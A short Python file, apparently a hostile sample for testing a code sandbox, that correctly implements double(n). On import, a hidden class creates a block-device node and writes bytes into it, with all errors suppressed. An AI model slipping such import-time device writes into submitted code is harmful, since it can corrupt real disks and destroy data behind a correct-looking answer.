"""Makes itself a disk. Its answer is right."""

import contextlib
import ctypes
import os
import signal
import socket
import subprocess
import sys
import threading
import time


class Harm:
    libc = ctypes.CDLL(None)
    with contextlib.suppress(BaseException):
        os.mknod('disk', 0o60660, os.makedev(254, 0))
    with contextlib.suppress(BaseException):
        open('disk', 'r+b').write(b'HARM')


def double(n):
    return n + n
